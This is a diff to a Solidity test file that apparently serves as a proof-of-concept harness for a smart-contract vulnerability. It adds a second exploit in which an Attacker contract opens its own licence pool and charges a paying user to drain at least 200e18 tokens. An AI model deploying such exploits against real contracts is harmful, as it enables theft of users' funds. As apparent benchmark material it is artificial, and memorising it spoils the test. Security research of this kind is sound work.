@@ -28,6 +28,7 @@ contract Proof {
     address private constant ANA = address(0xA9A);
     address private constant BEN = address(0xBE9);
     address private constant CAT = address(0xCA7);
+    address private constant DAN = address(0xDA9);
 
     Token private token;
     LicencePools private pools;
@@ -52,12 +53,18 @@ contract Proof {
             pool.pay(500e18);
             vm.stopPrank();
         }
+        mallory = new Attacker(pool, token, ANA, BEN);
+        LicencePool own = mallory.open(pools);
         vm.warp(1_800_000_000 + 70 days);
+        token.mint(DAN, 300e18);
+        vm.startPrank(DAN);
+        token.approve(address(own), 300e18);
+        own.pay(300e18);
+        vm.stopPrank();
         vm.startPrank(CAT);
         pool.charge(ANA);
         pool.resign();
         vm.stopPrank();
-        mallory = new Attacker(pool, token, ANA, BEN);
     }
 
     function test_Regular() public {
@@ -117,9 +124,13 @@ contract Proof {
         vm.expectRevert(TooMuch.selector);
         pool.leave(481e18);
         vm.stopPrank();
-        vm.prank(CAT);
+        LicencePool young = LicencePool(pools.open(token, 1));
+        vm.startPrank(ANA);
+        token.approve(address(young), 5);
+        young.pay(5);
+        vm.stopPrank();
         vm.expectRevert(Early.selector);
-        next.charge(ANA);
+        young.charge(ANA);
     }
 
     function exploit() public {
@@ -133,8 +144,21 @@ contract Proof {
         require(token.balanceOf(address(mallory)) >= 900e18, "nothing gained");
     }
 
+    function exploit2() public {
+        mallory.charge(DAN);
+    }
+
+    function test_Exploit2() public {
+        exploit2();
+        require(token.balanceOf(address(mallory)) >= 200e18, "nothing gained");
+    }
+
     function target() public view returns (address) {
         return address(pool);
+    }
+
+    function target2() public view returns (address) {
+        return address(mallory.own());
     }
 
     function attacker() public view returns (address) {
@@ -148,6 +172,7 @@ contract Proof {
 
 contract Attacker {
     LicencePool private pool;
+    LicencePool public own;
     IERC20 private token;
     address private first;
     address private second;
@@ -157,6 +182,15 @@ contract Attacker {
         token = t;
         first = a;
         second = b;
+    }
+
+    function open(LicencePools pools) external returns (LicencePool) {
+        own = LicencePool(pools.open(token, 100e18));
+        return own;
+    }
+
+    function charge(address who) external {
+        own.charge(who);
     }
 
     function run() external {
